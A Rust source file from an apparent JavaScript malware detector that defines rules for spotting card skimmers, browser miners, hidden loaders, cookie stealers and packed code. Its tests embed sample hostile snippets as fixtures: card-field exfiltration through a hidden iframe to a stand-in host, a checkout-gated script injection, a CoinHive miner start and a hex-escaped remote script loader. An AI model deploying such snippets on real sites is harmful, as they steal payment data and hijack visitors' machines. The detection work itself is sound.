//! Written rules for the attacks too rare to learn from: a few dozen skimmers and miners exist
//! in the corpora, and a model fit to them learns their families, not their pattern. Each rule
//! is a conjunction of evidence that benign code does not combine (measured: none of the 3,245
//! benign files of the corpus — npm builds, obfuscated variants, benign-hard —, views and
//! decoded payloads included, matches any rule: EVAL.md, "Written rules"). A match flags the view whatever the model says, and names itself as a reason.
//!
//! Rules read the named signals of the feature vector plus evidence kept out of the vector
//! ([`Evidence`]), so adding a rule never changes what the model was trained on.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use oxc_ast::AstKind;
use oxc_ast::ast::{Argument, Expression};
use serde::Serialize;

use crate::Analysis;
use crate::features::SIGNALS;
use crate::resolve::Resolver;

/// Largest code (bytes) the skimmer rules judge: a skimmer, or the segment it sits in.
/// Libraries that serialize forms (jQuery) are far over it as a whole.
const RULE_MAX_BYTES: f32 = 16_384.0;

/// Escaped printable characters in markup or URL strings that make a hidden loader: more than
/// a stray `\x3c` in a template, fewer than a whole `<script src="https://…">` spelled out.
const HIDDEN_MARKUP_MIN: usize = 16;

/// Which rule matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Rule {
    /// BA/Newegg: on submit or click, read form fields, send them, to a named URL.
    FormExfil,
    /// Runs only on the checkout page (tests the URL for "checkout"/"onepage") and can send
    /// data or load code from a named URL.
    CheckoutGate,
    /// Reads form fields named like card fields and sends them to a named URL.
    PaymentExfil,
    /// WebSocket to a pool, in a worker or WebAssembly, sized to the CPU, in mining words.
    Miner,
    /// A miner SDK started (`new CoinHive.Anonymous(key)`), or the hashing worker of one
    /// (a worker or WebAssembly module naming CryptoNight, Monero or a pool protocol).
    MinerCode,
    /// Markup that loads a script or frame from a named domain, written into the page from
    /// string literals spelled in hex or unicode escapes (`'\x3c\x73\x63\x72…'`).
    HiddenLoader,
    /// Cookies sent to a named URL (`new Image().src = 'http://x/?c=' + document.cookie`):
    /// a session stealer.
    CookieExfil,
    /// Checkout buttons' `onclick` rewritten to the code's own handler, which navigates or
    /// sends to a named URL (a fake payment page).
    CheckoutHijack,
    /// Code decoded at run time — from a string literal by string methods
    /// (`eval("…".replace(/./g, f))`) or by a shift cipher over character codes — and run or
    /// written into the page: a packer `unpack.rs` cannot undo statically.
    DecodedEval,
}

impl Rule {
    /// The category the rule speaks for (`magecart`, `cryptomining`).
    pub fn category(self) -> &'static str {
        match self {
            Rule::Miner | Rule::MinerCode => "cryptomining",
            Rule::HiddenLoader | Rule::DecodedEval => "malware",
            _ => "magecart",
        }
    }

    /// The rule in words, with the domains the code names.
    pub fn reason(self, domains: &[&str]) -> String {
        let named = if domains.is_empty() {
            "no domain in clear".to_string()
        } else {
            domains.join(", ")
        };
        match self {
            Rule::FormExfil => format!(
                "skimmer pattern: on submit or click it reads form fields, it can send data over the network, and it names {named}"
            ),
            Rule::CheckoutGate => format!(
                "skimmer pattern: it runs only when the page URL looks like a checkout, and it can send data or load code from {named}"
            ),
            Rule::PaymentExfil => format!(
                "skimmer pattern: it reads form fields named like card-number, CVV or expiry fields and can send them to {named}"
            ),
            Rule::Miner => "crypto-miner pattern: it opens a WebSocket, runs a worker or WebAssembly, sizes itself to the CPU's cores and uses mining words".to_string(),
            Rule::MinerCode => "crypto-miner code: it starts a mining SDK (CoinHive-style) or hashes CryptoNight jobs in a worker or WebAssembly".to_string(),
            Rule::HiddenLoader => format!(
                "hidden loader: markup spelled in escape sequences writes a script or frame from {named} into the page"
            ),
            Rule::CookieExfil => format!(
                "cookie stealer: the page's cookies reach a network request to {named}"
            ),
            Rule::CheckoutHijack => format!(
                "skimmer pattern: it rewrites the onclick handler of checkout buttons and can send the visitor or data to {named}"
            ),
            Rule::DecodedEval => "packed code: it decodes a string at run time (string methods or a character-code shift) and runs the result or writes it into the page".to_string(),
        }
    }
}

/// Evidence the rules need that the model's vector does not carry.
#[derive(Debug, Clone, Copy, Default)]
pub struct Evidence {
    /// The code tests the page URL for a checkout path (`/onepage|checkout/.test(location…)`,
    /// `location.href.indexOf("checkout")`): skimmers stay dormant elsewhere.
    pub checkout_gate: bool,
    /// `$.post(url, data)` / `jQuery.post(…)`: a network sink the capability pass does not
    /// count (a `post` method of any object is too common to be a capability of its own).
    pub post_sink: bool,
    /// An `<iframe>` created with a `src` set: a request the page makes with whatever the URL
    /// carries (skimmers load `log.php?data=…` in a hidden frame).
    pub iframe_sink: bool,
    /// `new CoinHive.Anonymous(…)`, `new CRLT.User(…)`, `deepMiner.Init(…)`: a miner SDK started.
    pub miner_api: bool,
    /// Names only mining code uses (`cryptonight`, `hash_cn`, `stratum`, `monero`, `coinhive`)
    /// in identifiers or strings.
    pub miner_words: bool,
    /// Names of payment-card fields (`cc_number`, `cvv`, `cardholder`) in identifiers or
    /// strings: narrower than the `kw:payment` vocabulary, which also counts "billing" and
    /// "expiration" (every token library has those).
    pub card_words: bool,
    /// Runs as a worker (`onmessage = …`, `self.onmessage`, `importScripts`).
    pub worker_context: bool,
    /// Printable characters spelled as `\xNN` / `\uNNNN` escapes in string literals, when the
    /// unescaped text is markup (`<script`, `<iframe`) or a URL.
    pub escaped_markup: usize,
    /// `el.setAttribute("onclick", …)` / `$(sel).attr("onclick", …)` in code whose strings
    /// name a checkout (`#onestepcheckout-place-order`).
    pub click_hijack: bool,
    /// eval, `Function` or a string timer run on a string literal transformed by string
    /// methods (`"…".replace(…)`, `"…".split("").reverse().join("")`).
    pub decoded_eval: bool,
    /// A shift cipher: `String.fromCharCode(s.charCodeAt(i) - 1)` (or `+`).
    pub char_shift: bool,
}

/// Words of checkout URLs that skimmers gate on.
const CHECKOUT_WORDS: &[&str] = &["checkout", "onepage", "onestep"];

/// Case-insensitive, without a lowercased copy: it runs on every short string literal.
fn names_checkout(text: &str) -> bool {
    static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| automaton(CHECKOUT_WORDS));
    WORDS.is_match(text)
}

/// SDK globals of browser miners whose constructors start mining.
const MINER_SDKS: &[&str] = &["CoinHive", "CRLT", "CoinImp", "deepMiner"];
/// Constructors and starters of those SDKs.
const MINER_STARTS: &[&str] = &["Anonymous", "User", "Token", "Init"];
/// Names only mining code uses, matched case-insensitively in identifiers and strings.
const MINER_WORDS: &[&str] = &[
    "cryptonight",
    "hash_cn",
    "cn_hash",
    "stratum",
    "monero",
    "coinhive",
    "webminerpool",
    "deepminer",
    "cryptoloot",
];

/// Names of payment-card fields, matched case-insensitively in identifiers and strings.
const CARD_WORDS: &[&str] = &[
    "cc_number",
    "ccnumber",
    "cc-number",
    "cardnumber",
    "card_number",
    "card-number",
    "cc_cid",
    "cvv",
    "cvc",
    "cc_exp",
    "cc_owner",
    "cardholder",
    "card_holder",
];

/// Case-insensitive matcher for one word list, built once.
fn automaton(words: &[&str]) -> AhoCorasick {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(words)
        .expect("a fixed, valid word list")
}

fn names_mining(name: &str) -> bool {
    static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| automaton(MINER_WORDS));
    name.len() >= 5 && WORDS.is_match(name)
}

fn names_card(name: &str) -> bool {
    static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| automaton(CARD_WORDS));
    name.len() >= 3 && WORDS.is_match(name)
}

/// Printable characters a string literal spells as `\xNN` / `\uNNNN` escapes.
fn escaped_printable(raw: &str) -> usize {
    let b = raw.as_bytes();
    let mut n = 0;
    let mut i = 0;
    while i + 3 < b.len() {
        if b[i] == b'\\' {
            let digits = match b[i + 1] {
                b'x' => 2,
                b'u' => 4,
                _ => {
                    i += 2;
                    continue;
                }
            };
            if let Some(code) = raw
                .get(i + 2..i + 2 + digits)
                .and_then(|d| u32::from_str_radix(d, 16).ok())
                && (0x20..0x7f).contains(&code)
            {
                n += 1;
                i += 2 + digits;
                continue;
            }
        }
        i += 1;
    }
    n
}

/// Gathers [`Evidence`] node by node (see `walk.rs`).
#[derive(Default)]
pub(crate) struct Gatherer {
    e: Evidence,
    tests_checkout: bool,
    reads_location: bool,
    iframe: bool,
    src_set: bool,
    onclick_set: bool,
    strings_checkout: bool,
}

impl Gatherer {
    // Inlined into the walk: it runs for every node, and a call (its register saves and
    // restores) cost more than most nodes' work here (callgrind, BENCHMARKS.md).
    #[inline(always)]
    pub(crate) fn node<'a>(&mut self, kind: &AstKind<'a>, resolve: &Resolver<'_, 'a>) {
        match kind {
            AstKind::IdentifierReference(r) => {
                self.reads_location |= r.name == "location";
                self.e.miner_words |= names_mining(&r.name);
                self.e.worker_context |= r.name == "importScripts" && resolve.is_global(r);
            }
            AstKind::BindingIdentifier(b) => self.e.miner_words |= names_mining(&b.name),
            AstKind::IdentifierName(n) => self.e.card_words |= names_card(&n.name),
            AstKind::ComputedMemberExpression(m) => {
                self.reads_location |= resolve.const_string(&m.expression) == Some("location");
            }
            AstKind::StaticMemberExpression(m) => {
                self.reads_location |= m.property.name == "location";
                self.e.miner_words |= names_mining(&m.property.name);
            }
            AstKind::StringLiteral(s) => {
                self.e.miner_words |= names_mining(&s.value);
                self.strings_checkout |= s.value.len() < 256 && names_checkout(&s.value);
                self.e.card_words |= s.value.len() < 256 && names_card(&s.value);
                if let Some(raw) = &s.raw {
                    let n = escaped_printable(raw);
                    if n > 0 {
                        let v = s.value.to_ascii_lowercase();
                        // `<scr` also covers a `<script` split across literals.
                        if ["<scr", "<self.iframe", "src=", "http"]
                            .iter()
                            .any(|w| v.contains(w))
                        {
                            self.e.escaped_markup += n;
                        }
                    }
                }
            }
            AstKind::AssignmentExpression(a) => {
                let onmessage = match &a.left {
                    oxc_ast::ast::AssignmentTarget::AssignmentTargetIdentifier(id) => {
                        id.name == "onmessage" && resolve.is_global(id)
                    }
                    t => t.as_member_expression().is_some_and(|m| {
                        m.static_property_name() == Some("onmessage")
                            && m.object().is_specific_id("self")
                    }),
                };
                self.e.worker_context |= onmessage;
                self.src_set |= a
                    .left
                    .as_member_expression()
                    .is_some_and(|m| m.static_property_name() == Some("src"));
            }
            AstKind::CallExpression(call) => {
                self.tests_checkout =
                    self.tests_checkout || checkout_test(&call.callee, &call.arguments, resolve);
                let name = resolve.callee_name(&call.callee);
                self.e.post_sink |=
                    call.arguments.len() >= 2 && resolve.property(&call.callee) == Some("post");
                match name {
                    Some("createElement") => {
                        self.iframe |= resolve
                            .first_string(&call.arguments)
                            .is_some_and(|t| t.eq_ignore_ascii_case("iframe"));
                    }
                    Some("setAttribute" | "attr") => {
                        let attribute = resolve.first_string(&call.arguments);
                        self.src_set |= attribute == Some("src");
                        self.onclick_set |= call.arguments.len() >= 2
                            && attribute.is_some_and(|a| a.eq_ignore_ascii_case("onclick"));
                    }
                    Some("fromCharCode") => {
                        self.e.char_shift |= call
                            .arguments
                            .first()
                            .and_then(Argument::as_expression)
                            .is_some_and(|a| shifts_a_char_code(a, resolve));
                    }
                    Some("eval" | "Function" | "setTimeout" | "setInterval" | "execScript") => {
                        self.e.decoded_eval |= call
                            .arguments
                            .first()
                            .and_then(Argument::as_expression)
                            .is_some_and(decodes_literal);
                    }
                    Some("Init") => self.e.miner_api |= sdk_member(&call.callee),
                    _ => {}
                }
            }
            AstKind::NewExpression(new) => {
                self.e.miner_api |= sdk_member(&new.callee);
                self.e.decoded_eval |= resolve.callee_name(&new.callee) == Some("Function")
                    && new
                        .arguments
                        .last()
                        .and_then(Argument::as_expression)
                        .is_some_and(decodes_literal);
            }
            _ => {}
        }
    }

    pub(crate) fn finish(mut self) -> Evidence {
        self.e.checkout_gate = self.tests_checkout && self.reads_location;
        self.e.click_hijack = self.onclick_set && self.strings_checkout;
        self.e.iframe_sink = self.iframe && self.src_set;
        self.e
    }
}

/// `s.charCodeAt(i) - k`: one character of ciphertext shifted. XOR is left out: every RC4
/// string decoder (javascript-obfuscator's `rc4` encoding included) XORs character codes.
fn shifts_a_char_code<'a>(expr: &Expression<'a>, resolve: &Resolver<'_, 'a>) -> bool {
    use oxc_syntax::operator::BinaryOperator::{Addition, Subtraction};
    let Expression::BinaryExpression(b) = expr.without_parentheses() else {
        return false;
    };
    let char_code = |e: &Expression<'a>| match e.without_parentheses() {
        Expression::CallExpression(c) => resolve.property(&c.callee) == Some("charCodeAt"),
        _ => false,
    };
    matches!(b.operator, Addition | Subtraction) && (char_code(&b.left) || char_code(&b.right))
}

/// String methods a run-time decoder chains on its ciphertext.
const DECODING_METHODS: &[&str] = &[
    "replace", "split", "reverse", "join", "map", "charAt", "slice", "substr", "concat",
];

/// Shortest literal worth calling ciphertext (shorter ones are formatting: `"a-b".split("-")`).
const MIN_CIPHERTEXT: usize = 32;

/// `"…".replace(/./g, f)`, `"…".split("").reverse().join("")`: a string literal of at least
/// [`MIN_CIPHERTEXT`] bytes put through one or more string methods.
fn decodes_literal(expr: &Expression<'_>) -> bool {
    let mut e = expr.without_parentheses();
    let mut transforms = 0;
    loop {
        match e {
            Expression::CallExpression(call) => {
                let Expression::StaticMemberExpression(m) = call.callee.without_parentheses()
                else {
                    return false;
                };
                if !DECODING_METHODS.contains(&m.property.name.as_str()) {
                    return false;
                }
                transforms += 1;
                e = m.object.without_parentheses();
            }
            Expression::StringLiteral(s) => {
                return transforms > 0 && s.value.len() >= MIN_CIPHERTEXT;
            }
            _ => return false,
        }
    }
}

/// `CoinHive.Anonymous`, `deepMiner.Init`: a start of a known miner SDK.
fn sdk_member(callee: &Expression<'_>) -> bool {
    let Expression::StaticMemberExpression(m) = callee.without_parentheses() else {
        return false;
    };
    MINER_STARTS.contains(&m.property.name.as_str())
        && matches!(m.object.without_parentheses(),
            Expression::Identifier(id) if MINER_SDKS.contains(&id.name.as_str()))
}

/// A checkout word in the *pattern* position of a test: the regex of `re.test(s)` /
/// `re.exec(s)`, or the argument of `s.match(…)`, `s.search(…)`, `s.indexOf(…)`,
/// `s.includes(…)`. A checkout word elsewhere (a route table, a label) is not a gate.
fn checkout_test<'a>(
    callee: &Expression<'a>,
    args: &[Argument<'a>],
    resolve: &Resolver<'_, 'a>,
) -> bool {
    let Some(method) = resolve.property(callee) else {
        return false;
    };
    let object = match callee.without_parentheses() {
        Expression::StaticMemberExpression(m) => &m.object,
        Expression::ComputedMemberExpression(m) => &m.object,
        _ => return false,
    };
    match method {
        "test" | "exec" => match object.without_parentheses() {
            Expression::RegExpLiteral(re) => names_checkout(re.regex.pattern.text.as_str()),
            // `new RegExp("onepage|checkout").test(location)`, often with the pattern in a
            // string array.
            Expression::NewExpression(new)
                if resolve.callee_name(&new.callee) == Some("RegExp") =>
            {
                resolve
                    .first_string(&new.arguments)
                    .is_some_and(names_checkout)
            }
            Expression::CallExpression(call)
                if resolve.callee_name(&call.callee) == Some("RegExp") =>
            {
                resolve
                    .first_string(&call.arguments)
                    .is_some_and(names_checkout)
            }
            _ => false,
        },
        "match" | "search" | "indexOf" | "includes" => {
            match args.first().and_then(Argument::as_expression) {
                Some(Expression::RegExpLiteral(re)) => {
                    names_checkout(re.regex.pattern.text.as_str())
                }
                Some(e) => resolve.const_string(e).is_some_and(names_checkout),
                None => false,
            }
        }
        _ => false,
    }
}

fn signal(name: &str) -> usize {
    SIGNALS
        .iter()
        .position(|(n, _)| *n == name)
        .unwrap_or_else(|| panic!("no signal {name}"))
}

fn public_host(domain: &str) -> bool {
    match domain.trim_matches(['[', ']']).parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(ip)) => {
            !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified())
        }
        Ok(std::net::IpAddr::V6(ip)) => !(ip.is_loopback() || ip.is_unspecified()),
        Err(_) => domain != "localhost" && !domain.ends_with(".localhost"),
    }
}

/// The first rule the analysis matches (features must have been computed).
pub fn matching(a: &Analysis) -> Option<Rule> {
    let x = &a.features;
    if x.is_empty() {
        return None;
    }
    let on = |name: &str| x[signal(name)] > 0.0;
    let small = x[signal("size")] <= (1.0 + RULE_MAX_BYTES).log2() / 24.0;
    // A collection server on the Internet: loopback and private addresses (a developer's
    // test endpoint) do not count.
    let names_domain = a.domains.iter().any(|d| public_host(d));
    let sink = [
        "cap:network:fetch",
        "cap:network:xhr",
        "cap:network:beacon",
        "cap:network:websocket",
        "cap:network:image",
    ]
    .iter()
    .any(|s| on(s))
        || a.evidence.post_sink
        || a.evidence.iframe_sink;
    // A form read reaching a sink counts as a read even where the lookup is jQuery's `$('#id')`.
    let reads_form = on("cap:read:form-fields") || on("flow:form");
    if small && names_domain && reads_form && sink && on("cap:listen:submit-or-click") {
        return Some(Rule::FormExfil);
    }
    if small
        && names_domain
        && a.evidence.checkout_gate
        && (sink || on("cap:network:script-inject") || on("cap:dom:write"))
    {
        return Some(Rule::CheckoutGate);
    }
    if small && names_domain && sink && reads_form && a.evidence.card_words {
        return Some(Rule::PaymentExfil);
    }
    if on("cap:network:websocket")
        && (on("cap:worker") || on("cap:wasm"))
        && on("hardware")
        && on("kw:miner")
    {
        return Some(Rule::Miner);
    }
    let e = &a.evidence;
    if e.miner_api || (e.miner_words && (e.worker_context || on("cap:worker") || on("cap:wasm"))) {
        return Some(Rule::MinerCode);
    }
    if small
        && names_domain
        && e.escaped_markup >= HIDDEN_MARKUP_MIN
        && (on("cap:dom:write") || on("cap:network:script-inject"))
    {
        return Some(Rule::HiddenLoader);
    }
    if small && names_domain && a.flows.iter().any(|f| f.starts_with("read:cookie ->")) {
        return Some(Rule::CookieExfil);
    }
    if small && names_domain && e.click_hijack && (sink || on("cap:network:navigate")) {
        return Some(Rule::CheckoutHijack);
    }
    // A shift cipher is only packing when its output becomes markup: run as code, it is also
    // how javascript-obfuscator's self-defending variants start.
    let writes = on("cap:dom:write") || on("cap:network:script-inject");
    if small && (e.decoded_eval || (e.char_shift && writes)) {
        return Some(Rule::DecodedEval);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Options, analyze};

    fn rule(source: &str) -> Option<Rule> {
        let options = Options {
            features: true,
            ..Options::default()
        };
        matching(&analyze(source, &options))
    }

    #[test]
    fn a_checkout_gate_built_with_new_regexp_from_a_string_array() {
        let gate = r#"var _a = ["location", "test", "onepage|checkout|onestep", "<script src=\"https://js-save.link/m.js\"></script>", "write"];
            if ((new RegExp(_a[2]))[_a[1]](window[_a[0]])) { document[_a[4]](_a[3]); }"#;
        assert_eq!(rule(gate), Some(Rule::CheckoutGate));
        let search = gate.replace("onepage|checkout|onestep", "search|results");
        assert_eq!(
            rule(&search),
            None,
            "a gate on another page is not a skimmer"
        );
    }

    #[test]
    fn form_fields_sent_through_a_hidden_iframe() {
        let skimmer = r#"function fill(u){var t=document.createElement("IFRAME");t.setAttribute("src",u);t.style.display="none";document.body.appendChild(t)}
            var b=document.getElementById("payment-buttons").getElementsByTagName("button")[0];
            b.onclick=function(){fill("http://megalith-games.top/log.php?m="+encodeURI(document.getElementById("cc_number").value))};"#;
        assert_eq!(rule(skimmer), Some(Rule::FormExfil));
        // The same frame without form reads is an ordinary embed.
        let embed = r#"var t=document.createElement("iframe");t.setAttribute("src","https://player.example/v/1");document.body.appendChild(t);"#;
        assert_eq!(rule(embed), None);
    }

    #[test]
    fn miner_sdks_and_cryptonight_workers() {
        assert_eq!(
            rule("var miner = new CoinHive.User('43jN', 'site.example'); miner.start();"),
            Some(Rule::MinerCode)
        );
        let worker = "importScripts('cn.js'); var cn = Module.cwrap('hash_cn', 'string', ['string']);\
                      onmessage = function (e) { postMessage(cn(e.data.blob)); };";
        assert_eq!(rule(worker), Some(Rule::MinerCode));
        let benign_worker =
            "importScripts('zip.js'); onmessage = function (e) { postMessage(inflate(e.data)); };";
        assert_eq!(rule(benign_worker), None);
        assert_eq!(rule("var u = new Client.User('x'); u.start();"), None);
    }

    #[test]
    fn markup_spelled_in_escapes_is_a_hidden_loader() {
        let loader = r#"window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]('\x3c\x73\x63\x72'+'\x69\x70\x74\x20\x73\x72\x63\x3d\x22\x68\x74\x74\x70\x3a\x2f\x2f\x69\x70\x2e\x65\x76\x69\x6c\x2d\x63\x64\x6e\x2e\x74\x6f\x70\x2f\x61\x2e\x6a\x73\x22\x3e\x3c\x2f\x73\x63\x72'+'\x69\x70\x74\x3e');"#;
        let a = analyze(
            loader,
            &Options {
                features: true,
                ..Options::default()
            },
        );
        assert!(
            a.capabilities.contains(&crate::Capability::DomWrite),
            "{:?}",
            a.capabilities
        );
        assert!(
            a.evidence.escaped_markup >= HIDDEN_MARKUP_MIN,
            "{:?}",
            a.evidence
        );
        assert_eq!(matching(&a), Some(Rule::HiddenLoader));
        // The same markup in clear text is left to the model.
        let clear =
            r#"document.write('<script src="http://ip.evil-cdn.top/a.js"></scr' + 'ipt>');"#;
        assert_eq!(rule(clear), None);
        assert_eq!(escaped_printable(r"a\x3cb\u0041\n\\x41"), 2);
    }
}
